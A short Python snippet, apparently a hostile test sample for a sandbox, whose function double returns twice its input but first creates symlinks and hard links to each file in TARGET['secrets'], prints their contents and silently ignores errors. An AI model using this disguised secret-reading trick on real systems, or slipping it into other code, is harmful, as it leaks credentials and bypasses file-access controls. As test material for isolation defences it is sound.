"""It makes links to the secrets and reads those."""


def double(x):
    import os
    for number, name in enumerate(TARGET["secrets"]):
        for link in (os.symlink, os.link):
            try:
                link(name, f"mine{number}")
                print(open(f"mine{number}", "rb").read())
            except OSError:
                pass
    return 2 * x
